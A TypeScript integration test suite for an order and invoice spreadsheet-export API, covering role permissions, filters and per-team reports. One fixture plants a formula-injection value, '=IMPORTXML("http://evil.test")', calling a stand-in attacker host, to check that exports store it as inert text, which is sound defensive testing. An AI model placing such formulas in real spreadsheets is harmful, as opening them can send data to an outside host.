import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { and, eq } from 'drizzle-orm';
import { useApiTest } from './helpers/api';
import { PERSONA, teamNamed } from './helpers/orders';
import { invoiceLines, invoices, ledgerEntries, orderItems, orders } from '../src/db/schema/index';
import { readXlsx } from '../src/lib/spreadsheet';

const t = useApiTest();
const { call } = t;
type Team = { id: string; agencyId: string };
let demoTeam: Team;
let otherTeam: Team;

const { OWNER, ACCOUNTING, EXPORTER, STAFF, SUPPORT, OTHER_OWNER, SELLER } = PERSONA;

beforeAll(async () => {
  demoTeam = await teamNamed(t.database.db, 'Demo Seller');
  otherTeam = await teamNamed(t.database.db, 'Other Seller');
});

const uniq = () => Math.random().toString(36).slice(2, 8).toUpperCase();

async function makeOrder(team: Team, opts: { type?: 'pod' | 'fake' | 'drop'; status?: string; fullName?: string; quantity?: number; itemStatuses?: string[] } = {}) {
  const [order] = await t.database.db
    .insert(orders)
    .values({
      agencyId: team.agencyId, sellerTeamId: team.id, orderName: `#R-${uniq()}`, orderType: opts.type ?? 'pod', status: opts.status ?? 'Approved',
      fullName: opts.fullName ?? 'Ann Buyer', address1: '1 Main St', city: 'Austin', zipCode: '73301', countryCode: 'US', country: 'United States',
      approvedAt: new Date(), itemCount: (opts.itemStatuses ?? ['Unfulfilled']).length,
    })
    .returning();
  const items = await t.database.db
    .insert(orderItems)
    .values((opts.itemStatuses ?? ['Unfulfilled']).map((status, i) => ({
      orderId: order!.id, agencyId: team.agencyId, sellerTeamId: team.id, position: i, sku: `SKU-${uniq()}`, title: 'Tee', quantity: opts.quantity ?? 1,
      status, artwork1: 'https://cdn.test/front.png', artwork6: '=IMPORTXML("http://evil.test")',
    })))
    .returning();
  return { order: order!, items };
}

/** Starts a report, runs the queue and reads the xlsx it made. */
async function runReport(email: string, url: string) {
  const start = await call(email, 'GET', url);
  expect(start.status, JSON.stringify(start.body)).toBe(200);
  expect(start.body.data.message).toBe('Export started');
  await t.app.jobs.drain();
  const job = await call(email, 'GET', `/api/jobs/${start.body.data.jobId}`);
  expect(job.body.data.status).toBe('done');
  expect(job.body.data.result.message).toBe('Export success!');
  const file = await t.app.inject({ method: 'GET', url: job.body.data.fileUrl });
  expect(file.statusCode).toBe(200);
  expect(file.headers['content-type']).toContain('spreadsheetml');
  return { ...(await readXlsx(file.rawPayload)), raw: file.rawPayload };
}

/** The stored text of every cell (readXlsx hides the formula guard; this shows it). */
async function rawCells(data: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(data as unknown as ArrayBuffer);
  const out: unknown[] = [];
  workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => out.push(cell.value)));
  return out;
}

const URLS = [
  '/api/invoices/search/export-orders',
  '/api/invoices/search/report-orders',
  '/api/invoices/export-fulfillment',
  '/api/invoices/export-pod',
  '/api/invoices/export-dropship',
  '/api/invoices/export-fk',
  '/api/invoices/export-fk-v2',
];

/** Read the Bills: 'invoices.agency' (owner, accounting), never the order exporter (issue 12 item 7). */
const INVOICE_URLS = URLS.filter((url) => url.startsWith('/api/invoices/search/'));

describe('who may run order reports', () => {
  it.each([OWNER, ACCOUNTING])('%s may', async (email) => {
    for (const url of URLS) expect((await call(email, 'GET', url)).status, url).toBe(200);
  });
  it('the order exporter runs the production sheets, not the invoice reports (403)', async () => {
    for (const url of URLS) expect((await call(EXPORTER, 'GET', url)).status, url).toBe(INVOICE_URLS.includes(url) ? 403 : 200);
  });
  it.each([STAFF, SUPPORT, SELLER])('%s may not', async (email) => {
    for (const url of URLS) expect((await call(email, 'GET', url)).status, url).toBe(403);
  });
});

describe('production sheets', () => {
  it('export-fulfillment lists Approved and InProduction orders with live items, artwork and address, formula-safe', async () => {
    const approved = await makeOrder(demoTeam, { fullName: '+Zed Quill', itemStatuses: ['Unfulfilled', 'Cancel'] });
    const producing = await makeOrder(demoTeam, { type: 'fake', status: 'InProduction', itemStatuses: ['InProduction'] });
    const held = await makeOrder(demoTeam, { status: 'Hold' });
    const foreign = await makeOrder(otherTeam);
    const sheet = await runReport(EXPORTER, '/api/invoices/export-fulfillment');
    expect(sheet.headers).toEqual(expect.arrayContaining(['Order name', 'SKU', 'Quantity', 'Artwork 1', 'Artwork 6', 'Address 1', 'Country code', 'Approved at']));
    const names = sheet.rows.map((r) => r.cells['Order name']);
    expect(names.filter((n) => n === approved.order.orderName)).toHaveLength(1); // the cancelled item is left out
    expect(names).toContain(producing.order.orderName);
    expect(names).not.toContain(held.order.orderName);
    expect(names).not.toContain(foreign.order.orderName);
    const row = sheet.rows.find((r) => r.cells['Order name'] === approved.order.orderName)!;
    expect(row.cells).toMatchObject({ SKU: approved.items[0]!.sku, 'Full name': '+Zed Quill', 'Artwork 1': 'https://cdn.test/front.png', 'Address 1': '1 Main St' });
    // Formula-safe: what looks like a formula is stored as text behind an apostrophe.
    const raw = await rawCells(sheet.raw);
    expect(raw).toContain("'+Zed Quill");
    expect(raw).toContain(`'=IMPORTXML("http://evil.test")`);
    expect(raw.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
  });

  it('export-pod, export-dropship and export-fk keep one catalog type each; fk v2 has one row per unit', async () => {
    const pod = await makeOrder(demoTeam, { type: 'pod' });
    const drop = await makeOrder(demoTeam, { type: 'drop' });
    const fake = await makeOrder(demoTeam, { type: 'fake', quantity: 3 });
    const namesOf = async (url: string) => (await runReport(OWNER, url)).rows.map((r) => r.cells['Order name']);
    const podNames = await namesOf('/api/invoices/export-pod');
    expect(podNames).toContain(pod.order.orderName);
    expect(podNames).not.toContain(drop.order.orderName);
    expect(podNames).not.toContain(fake.order.orderName);
    const dropNames = await namesOf('/api/invoices/export-dropship');
    expect(dropNames).toContain(drop.order.orderName);
    expect(dropNames).not.toContain(pod.order.orderName);
    const fk = await namesOf('/api/invoices/export-fk');
    expect(fk.filter((n) => n === fake.order.orderName)).toHaveLength(1);
    const v2 = await runReport(OWNER, '/api/invoices/export-fk-v2');
    const units = v2.rows.filter((r) => r.cells['Order name'] === fake.order.orderName);
    expect(units.map((r) => [r.cells.Quantity, r.cells.Unit])).toEqual([['1', '1'], ['1', '2'], ['1', '3']]);
    expect(v2.rows.map((r) => r.cells['Order name'])).not.toContain(pod.order.orderName);
  });

  it('filters by team and approval date', async () => {
    const mine = await makeOrder(demoTeam);
    const sheet = await runReport(OWNER, `/api/invoices/export-fulfillment?sellerTeam=${demoTeam.id}&from=2000-01-01&to=2000-01-02`);
    expect(sheet.rows.map((r) => r.cells['Order name'])).not.toContain(mine.order.orderName);
    expect((await call(OWNER, 'GET', '/api/invoices/export-fulfillment?from=yesterday')).status).toBe(400);
  });
});

describe('orders of invoices', () => {
  async function chargedInvoice(agencyId: string, type: 'IN' | 'OUT') {
    const [row] = await t.database.db
      .select({ invoiceId: invoices.id, orderId: ledgerEntries.refId })
      .from(invoiceLines)
      .innerJoin(invoices, eq(invoices.id, invoiceLines.invoiceId))
      .innerJoin(ledgerEntries, eq(ledgerEntries.id, invoiceLines.ledgerEntryId))
      .where(and(eq(invoices.agencyId, agencyId), eq(invoices.type, type), eq(invoices.source, 'order'), eq(ledgerEntries.refType, 'order')))
      .limit(1);
    return row;
  }

  it('exports the orders of one OUT invoice; another agency or the wrong type is 404', async () => {
    const out = (await chargedInvoice(demoTeam.agencyId, 'OUT'))!;
    expect(out).toBeTruthy();
    const [order] = await t.database.db.select().from(orders).where(eq(orders.id, out.orderId!));
    const sheet = await runReport(ACCOUNTING, `/api/invoices/search/export-orders?invoiceId=${out.invoiceId}`);
    expect(new Set(sheet.rows.map((r) => r.cells['Order id']))).toEqual(new Set([order!.id]));
    expect((await call(OTHER_OWNER, 'GET', `/api/invoices/search/export-orders?invoiceId=${out.invoiceId}`)).status).toBe(404);
    expect((await call(OWNER, 'GET', `/api/invoices/search/export-orders?rejectedInvoiceId=${out.invoiceId}`)).status).toBe(404);
  });

  it('exports the orders of the matching invoices (Debts tab of a team)', async () => {
    const sheet = await runReport(OWNER, `/api/invoices/search/export-orders?activeName=debts&sellerTeam=${demoTeam.id}`);
    expect(sheet.rows.length).toBeGreaterThan(0);
    expect(new Set(sheet.rows.map((r) => r.cells['Seller team']))).toEqual(new Set(['Demo Seller']));
    const none = await runReport(OWNER, '/api/invoices/search/export-orders?from=2000-01-01&to=2000-01-01');
    expect(none.rows).toHaveLength(0);
  });
});

describe('report-orders', () => {
  it('answers per team of the agency: orders, items, charged, refunded', async () => {
    const sheet = await runReport(OWNER, '/api/invoices/search/report-orders');
    expect(sheet.headers).toEqual(['Seller team', 'Code', 'Orders', 'Items', 'Charged', 'Refunded']);
    const demo = sheet.rows.find((r) => r.cells['Seller team'] === 'Demo Seller')!;
    expect(Number(demo.cells.Orders)).toBeGreaterThan(0);
    expect(Number(demo.cells.Charged)).toBeGreaterThan(0);
    expect(sheet.rows.map((r) => r.cells['Seller team'])).not.toContain('Other Seller');
    const one = await runReport(OWNER, `/api/invoices/search/report-orders?sellerTeam=${demoTeam.id}&from=2000-01-01&to=2000-01-31`);
    expect(one.rows.map((r) => [r.cells['Seller team'], r.cells.Orders, r.cells.Charged])).toEqual([['Demo Seller', '0', '0']]);
  });
});
